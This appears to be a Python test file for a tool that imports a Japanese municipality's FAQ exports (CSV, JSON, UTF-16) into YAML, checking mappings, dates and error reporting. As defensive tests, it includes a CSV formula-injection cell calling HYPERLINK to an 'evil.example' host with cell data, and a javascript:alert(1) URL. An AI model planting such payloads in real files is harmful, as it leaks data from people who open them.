"""`madoguchi faq import`: a city's FAQ export (CSV in UTF-8 or CP932, or JSON) with its own
column names becomes intents/faq/ YAML, after showing what changes; comments stay, a second
import changes nothing, and bad input is refused with its row and column, nothing written."""
from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import pytest

from bot.catalog import load_catalog
from bot.catalog.faq_import import FaqImportError, apply_faq_import, parse_date, plan_faq_import
from bot.settings import PROJECT_ROOT
from tests.catalog.test_faq_loading import FAQ
from tests.cli import madoguchi

SOURCE = PROJECT_ROOT / "intents"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    shutil.copytree(SOURCE, tmp_path / "intents", ignore=shutil.ignore_patterns("faq"))
    (tmp_path / "intents" / "faq").mkdir()
    (tmp_path / "intents" / "faq" / "garbage.yml").write_text(FAQ, encoding="utf-8")
    return tmp_path


def catalog_files(home: Path) -> dict:
    return {p: p.read_bytes() for p in sorted((home / "intents").rglob("*.yml"))}


UNFAMILIAR = (
    "問合せ番号,Q文,A文,区分,所管,掲載ページ,最終更新\r\n"
    "101,資源ごみの出し方を教えてください。,資源ごみは月2回、地区の集積所に出してください。（サンプル）,"
    "ごみ・リサイクル,市民部市民課,https://www.city.sample.example/faq/101.html,2025/10/01\r\n"
    "102,\"粗大ごみは\n何曜日に出せますか。\",\"粗大ごみは申し込みのあと、\n指定の日に出してください。（サンプル）\","
    "ごみ・リサイクル,市民課,https://www.city.sample.example/faq/102.html,令和7年4月1日\r\n"
)
UNFAMILIAR_MAPPING = "id=問合せ番号,question=Q文,answer=A文,category=区分,section=所管,url=掲載ページ,updated=最終更新"


def test_a_csv_with_unfamiliar_columns_imports_through_the_mapping(home):
    csv_path = home / "city_faq.csv"
    csv_path.write_text(UNFAMILIAR, encoding="utf-8")
    before = catalog_files(home)

    dry = madoguchi(home, "faq", "import", str(csv_path), "--mapping", UNFAMILIAR_MAPPING)
    assert dry.returncode == 0, dry.stderr
    assert "faq/garbage.yml: 2 new, 0 changed, 0 unchanged" in dry.stdout
    assert "+ garbage_101: 資源ごみの出し方を教えてください。" in dry.stdout
    assert "nothing written" in dry.stdout and catalog_files(home) == before

    applied = madoguchi(home, "faq", "import", str(csv_path), "--mapping", UNFAMILIAR_MAPPING, "--apply")
    assert applied.returncode == 0, applied.stderr
    catalog = load_catalog(home / "intents")
    entry = catalog.faq["garbage_101"]
    assert entry.category == "garbage" and entry.section == "shimin"  # 「市民部市民課」 ends with 市民課
    assert entry.updated == dt.date(2025, 10, 1) and entry.url.endswith("/faq/101.html")
    assert catalog.faq["garbage_102"].updated == dt.date(2025, 4, 1)  # 令和7年
    assert catalog.faq["garbage_102"].question["ja"] == "粗大ごみは\n何曜日に出せますか。"
    assert {"garbage_burnable_day", "garbage_large"} <= set(catalog.faq)

    again = madoguchi(home, "faq", "import", str(csv_path), "--mapping", UNFAMILIAR_MAPPING, "--apply")
    assert again.returncode == 0 and "0 new, 0 changed, 2 unchanged" in again.stdout
    assert "nothing to change" in again.stdout


def test_a_cp932_csv_with_the_default_columns(home):
    text = ("質問,回答,カテゴリ,担当課,URL,更新日\r\n"
            "燃やすごみの収集日はいつですか。,燃やすごみは週3回になりました。（サンプル）,ごみ・リサイクル,市民課,"
            "https://www.city.sample.example/faq/kankyo/garbage_burnable_day.html,2026年5月1日\r\n"
            "住民票の写しはどこで取れますか。,市民課の窓口か、コンビニで取れます。（サンプル）,"
            "ごみ・リサイクル,市民課,https://www.city.sample.example/faq/juminhyo.html,2026-05-01\r\n")
    data = text.encode("cp932")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    plan = plan_faq_import(data, "faq_sjis.csv", home / "intents")
    kinds = {change.entry_id: change.kind for change in plan.changes}
    # The first row is the existing entry (same page): its answer and date change.
    assert kinds == {"garbage_burnable_day": "changed", "juminhyo": "new"}, kinds
    changed = next(c for c in plan.changes if c.kind == "changed")
    assert ("answer.ja", "燃やすごみは週2回、地区ごとに決まった曜日の朝8時30分までに出してください。（サンプル）",
            "燃やすごみは週3回になりました。（サンプル）") in changed.fields
    assert ("updated", "2026-04-01", "2026-05-01") in changed.fields
    assert not plan.problems, plan.problems
    apply_faq_import(plan, home / "intents")
    entry = load_catalog(home / "intents").faq["garbage_burnable_day"]
    assert entry.answer["ja"] == "燃やすごみは週3回になりました。（サンプル）"
    assert entry.question["en"] == "When is burnable garbage collected?"  # kept: not in the file
    assert "可燃ごみ 何曜日" in entry.variants["ja"]


def test_a_json_export(home):
    document = {"faq": [
        {"ID": "tax-1", "質問": "市県民税の納付書をなくしました。", "回答": "税務課で再発行します。（サンプル）",
         "担当課": "zeimu", "URL": "https://www.city.sample.example/faq/tax1.html", "更新日": "2026/03/31",
         "言い換え": ["納付書 再発行", "納付書を紛失"]},
    ]}
    plan = plan_faq_import(json.dumps(document, ensure_ascii=False).encode("utf-8"), "faq.json",
                           home / "intents", category="city_tax")
    assert plan.new_categories == {"city_tax": "city_tax"}
    assert [(c.entry_id, c.kind) for c in plan.changes] == [("tax_1", "new")]
    assert set(plan.files) == {"faq/city_tax.yml"} and not plan.problems, plan.problems
    apply_faq_import(plan, home / "intents")
    catalog = load_catalog(home / "intents")
    entry = catalog.faq["tax_1"]
    assert entry.section == "zeimu" and entry.variants == {"ja": ("納付書 再発行", "納付書を紛失")}
    assert catalog.faq_categories["city_tax"].title.ja == "city_tax"
    # a bare list works too, and the same entry again changes nothing
    again = plan_faq_import(json.dumps(document["faq"], ensure_ascii=False).encode(), "faq.json",
                            home / "intents", category="city_tax")
    assert [c.kind for c in again.changes] == ["unchanged"] and again.files == {}


def test_a_formula_cell_is_refused_with_row_and_column(home):
    csv_path = home / "evil.csv"
    csv_path.write_text("質問,回答,担当課,URL,更新日\n"
                        "ごみの日は？,普通の回答です。,市民課,https://www.city.sample.example/a.html,2026-01-01\n"
                        'ごみの日2は？,"=HYPERLINK(""http://evil.example/?x=""&A2,""click"")",市民課,'
                        "https://www.city.sample.example/b.html,2026-01-01\n", encoding="utf-8")
    before = catalog_files(home)
    result = madoguchi(home, "faq", "import", str(csv_path), "--category", "garbage", "--apply")
    assert result.returncode == 1
    assert "row 3, column '回答': starts with '='" in result.stderr and "formula" in result.stderr
    assert catalog_files(home) == before
    for start in ("+", "-", "@"):
        data = f"質問,回答\n{start}1+1,答え\n".encode()
        with pytest.raises(FaqImportError, match=r"row 2, column '質問': starts with"):
            plan_faq_import(data, "x.csv", home / "intents", category="garbage", section="shimin")


@pytest.mark.parametrize("data, name, mapping, message", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "faq.csv", None, "binary content"),
    (b"just one line of text", "faq.txt", None, "is it CSV"),
    ("質問,回答\nA,B\n".encode(), "faq.csv", "question=問い", "column '問い' (mapped to question) is not in the file"),
    ("質問,回答,担当課\n,答え,市民課\n".encode(), "faq.csv", None, "row 2, column '質問': the question is empty"),
    ("質問,回答,担当課,URL,更新日\nQ,A,市民課,https://x.example/,いつか\n".encode(), "faq.csv", None,
     "row 2, column '更新日': 'いつか' is not a date"),
    ("質問,回答,担当課\nQ,A,宇宙課\n".encode(), "faq.csv", None, "row 2, column '担当課': no section named '宇宙課'"),
    ('{"faq": [{"質問": "Q", "回答": {"x": 1}}]}'.encode(), "faq.json", None, "item [0], column '回答': must be text"),
    (b'{"faq": [', "faq.json", None, "not valid JSON"),
    ("Q文,A文\nQ,A\n".encode(), "faq.csv", None, "no question column: map it with --mapping question=COLUMN"),
    ("質問,回答\nQ,A\n".encode(), "faq.csv", "colour=質問", "unknown field 'colour'"),
])
def test_wrong_input_is_refused_naming_row_and_column(home, data, name, mapping, message):
    from bot.catalog.faq_import import parse_mapping

    before = catalog_files(home)
    with pytest.raises(FaqImportError) as refused:
        plan_faq_import(data, name, home / "intents", parse_mapping(mapping), category="garbage")
    assert message in str(refused.value)
    assert catalog_files(home) == before


def test_the_cli_refuses_wrong_input_with_exit_code_1(home):
    path = home / "faq.csv"
    path.write_text("質問,回答,担当課\n,答え,市民課\n", encoding="utf-8")
    result = madoguchi(home, "faq", "import", str(path), "--category", "garbage", "--apply")
    assert result.returncode == 1 and "row 2, column '質問': the question is empty" in result.stderr
    assert "nothing written" in result.stderr


def test_validation_problems_are_listed_and_block_the_write(home):
    path = home / "faq.csv"
    path.write_text("質問,回答,担当課,URL,更新日\n新しい質問ですか。,回答です。,市民課,javascript:alert(1),2026-01-01\n",
                    encoding="utf-8")
    before = catalog_files(home)
    result = madoguchi(home, "faq", "import", str(path), "--category", "garbage", "--apply")
    assert result.returncode == 1
    assert "intents/faq/garbage.yml:" in result.stdout and "must be an http(s) address" in result.stdout
    assert catalog_files(home) == before


def test_comments_and_layout_are_kept(home):
    path = home / "intents" / "faq" / "garbage.yml"
    data = ("質問,回答,URL\n"
            "粗大ごみの出し方を教えてください。,粗大ごみは電話かインターネットで申し込みます。（サンプル）,"
            "http://www.city.sample.example/faq/kankyo/garbage_large.html\n").encode()
    plan = plan_faq_import(data, "faq.csv", home / "intents", category="garbage")
    assert [(c.entry_id, c.kind) for c in plan.changes] == [("garbage_large", "changed")]
    apply_faq_import(plan, home / "intents")
    after = path.read_text(encoding="utf-8")
    assert after.startswith("# ごみ・リサイクル (test FAQ)\n")
    assert "  - id: garbage_burnable_day   # a comment\n" in after
    expected = FAQ.replace("answer: {ja: 粗大ごみは申し込み制です。（サンプル）}",
                           "answer: {ja: 粗大ごみは電話かインターネットで申し込みます。（サンプル）}")
    assert after == expected


def test_dates_cities_write():
    assert parse_date("2025-04-01") == dt.date(2025, 4, 1)
    assert parse_date("2025/4/1") == dt.date(2025, 4, 1)
    assert parse_date("２０２５年４月１日") == dt.date(2025, 4, 1)
    assert parse_date("令和7年4月1日") == dt.date(2025, 4, 1)
    assert parse_date("令和元年5月1日") == dt.date(2019, 5, 1)
    assert parse_date("平成31年4月30日") == dt.date(2019, 4, 30)
    assert parse_date("2025-02-30") is None and parse_date("昨日") is None


def test_our_own_open_data_export_imports_unchanged(home):
    from bot.admin import opendata

    publication = opendata.Publication("CC-BY-4.0", "CC BY", "https://creativecommons.org/licenses/by/4.0/", "")
    text = opendata.faq_to_csv(opendata.faq_document(home / "intents", publication))
    mapping = {name: name for name in ("id", "question", "answer", "category", "section", "url", "updated",
                                       "variants", "question_en", "answer_en")}
    plan = plan_faq_import(text.encode("utf-8"), "faq.csv", home / "intents", mapping)
    assert plan.counts() == {"new": 0, "changed": 0, "unchanged": 2} and plan.files == {} and not plan.problems


def test_excels_unicode_text_utf16_tab_separated(home):
    text = ("質問\t回答\t担当課\tURL\t更新日\r\n"
            "転入したら犬の登録は必要ですか。\t登録の変更が必要です。（サンプル）\t市民課\t"
            "https://www.city.sample.example/faq/dog.html\t2026/09/01\r\n")
    plan = plan_faq_import(text.encode("utf-16"), "faq.txt", home / "intents", category="garbage")
    assert [(c.entry_id, c.kind) for c in plan.changes] == [("dog", "new")] and not plan.problems
